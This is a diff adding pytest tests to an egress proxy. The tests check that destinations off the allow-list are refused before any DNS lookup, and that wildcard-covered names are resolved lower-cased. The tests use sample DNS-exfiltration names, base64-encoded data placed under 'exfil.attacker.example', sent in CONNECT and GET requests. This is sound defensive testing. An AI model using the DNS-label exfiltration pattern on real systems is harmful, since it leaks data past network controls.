@@ -21,6 +21,7 @@ import pytest
 
 from tests.egress_hosts import ALLOWED
 from tests.egress_tls import Origin, certificate, python_hello
+from worker.egress import proxy as proxy_module
 from worker.egress.policy import AllowList
 from worker.egress.proxy import EgressProxy
 
@@ -276,3 +277,35 @@ def test_a_refusal_naming_a_secret_host_does_not_put_the_secret_in_the_workers_l
     assert refused.refusals.count == 1
     assert token not in caplog.text, caplog.text
     assert "refused (403 Forbidden): not on the allow-list" in caplog.text, caplog.text  # still says what happened
+
+
+@pytest.mark.parametrize("head", [
+    "CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n",
+    "GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n\r\n",
+], ids=["tunnel", "plain"])
+def test_a_name_the_allow_list_does_not_cover_is_never_looked_up(proxy, monkeypatch, head):
+    """A run cannot send data out through lookups of names it makes up (a resolver forwards a name's labels to
+    the name's servers): the proxy refuses a destination before it resolves anything."""
+    looked_up: list[str] = []
+    monkeypatch.setattr(proxy_module, "resolve", lambda host, port: looked_up.append(host) or [])
+    port, served = proxy
+    name = "c2VjcmV0IGRhdGE.exfil.attacker.example"
+    connection = _connect(port)
+    connection.sendall(head.format(name=name).encode())
+    assert _read_all(connection).startswith(b"HTTP/1.1 403")
+    connection.close()
+    assert looked_up == [] and served.refusals.count == 1
+
+
+def test_a_name_under_an_allowed_wildcard_is_looked_up_as_the_security_model_says(proxy, origin, monkeypatch):
+    """What remains: a name a wildcard entry covers is resolved whatever its first labels hold (the operator's
+    domain's servers see them), which the security model says of wildcards."""
+    looked_up: list[str] = []
+    monkeypatch.setattr(proxy_module, "resolve", lambda host, port: looked_up.append(host) or ["127.0.0.1"])
+    port, _ = proxy
+    name = "c2VjcmV0IGRhdGE.allowed-egress.net"
+    connection = _connect(port)
+    connection.sendall(f"CONNECT {name}:{origin.port} HTTP/1.1\r\nHost: {name}:{origin.port}\r\n\r\n".encode())
+    _read_all(connection)
+    connection.close()
+    assert looked_up == [name.lower()]  # names are looked up lower-cased: case carries nothing out
